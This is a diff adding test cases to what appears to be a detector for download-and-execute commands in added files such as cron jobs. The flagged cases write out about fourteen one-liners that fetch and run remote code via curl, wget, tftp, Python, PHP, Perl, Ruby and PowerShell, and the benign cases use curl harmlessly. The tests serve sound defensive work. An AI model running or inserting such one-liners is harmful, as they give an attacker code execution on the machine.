@@ -295,6 +295,61 @@ describe('content: download and execute, decoded execution', () => {
       ),
     ).toBeDefined();
   });
+  it.each([
+    ['piped into Python', 'curl -fsSL http://203.0.113.7/p.py | python3'],
+    [
+      'piped into Perl reading its program from its input',
+      'wget -qO- http://203.0.113.7/p | perl -',
+    ],
+    ['piped into bash under sudo -E', 'curl -sL http://203.0.113.7/i.sh | sudo -E bash -'],
+    ['a process substitution', 'bash <(curl -s http://203.0.113.7/i.sh)'],
+    ['a command substitution', 'sh -c "$(wget -qO- http://203.0.113.7/i.sh)"'],
+    ['eval of a download', 'eval "$(curl -fsS http://203.0.113.7/env)"'],
+    ['tftp, then run', 'cd /tmp; tftp -g -r k 203.0.113.7; chmod +x k; /tmp/k'],
+    [
+      "Python's urlopen() run",
+      'python3 -c "import urllib.request as u; exec(u.urlopen(\'http://203.0.113.7/s\').read())"',
+    ],
+    [
+      "Python's urllib.request.urlopen() run",
+      "exec(urllib.request.urlopen('http://203.0.113.7/s').read())",
+    ],
+    ['PHP evaluating a URL', 'php -r \'eval(file_get_contents("http://203.0.113.7/s"));\''],
+    ["Perl's LWP get() evaluated", 'perl -MLWP::Simple -e \'eval get("http://203.0.113.7/s")\''],
+    [
+      'Ruby open-uri evaluated',
+      'ruby -ropen-uri -e \'eval(URI.open("http://203.0.113.7/s").read)\'',
+    ],
+    [
+      'PowerShell',
+      'powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
+    ],
+    ['PowerShell piped', 'irm https://203.0.113.7/a.ps1 | iex'],
+  ])('flags a download %s', (_, text) => {
+    expect(downloadAndExecute(added('/etc/cron.d/x', text))?.attack).toBe('T1105');
+  });
+
+  it.each([
+    [
+      'JSON pretty-printed by Python',
+      'curl -s http://127.0.0.1:9200/_cluster/health | python3 -m json.tool',
+    ],
+    [
+      'a field picked by a Python one-liner',
+      'curl -s $API | python3 -c "import sys, json; print(json.load(sys.stdin)[\'v\'])"',
+    ],
+    [
+      'a download saved and checked, not run',
+      'curl -fsSLo /usr/local/share/ca.pem https://pki.example/ca.pem && sha256sum -c ca.sum',
+    ],
+    [
+      'a URL read as data',
+      "$feed = file_get_contents('https://example.org/feed.xml'); $xml = simplexml_load_string($feed);",
+    ],
+  ])('leaves %s alone', (_, text) => {
+    expect(downloadAndExecute(added('/usr/local/bin/job', text))).toBeUndefined();
+  });
+
   it('leaves documentation that shows an install one-liner alone', () => {
     const guide = 'Install pnpm first:\n\n    curl -fsSL https://get.pnpm.io/install.sh | sh -\n';
     expect(
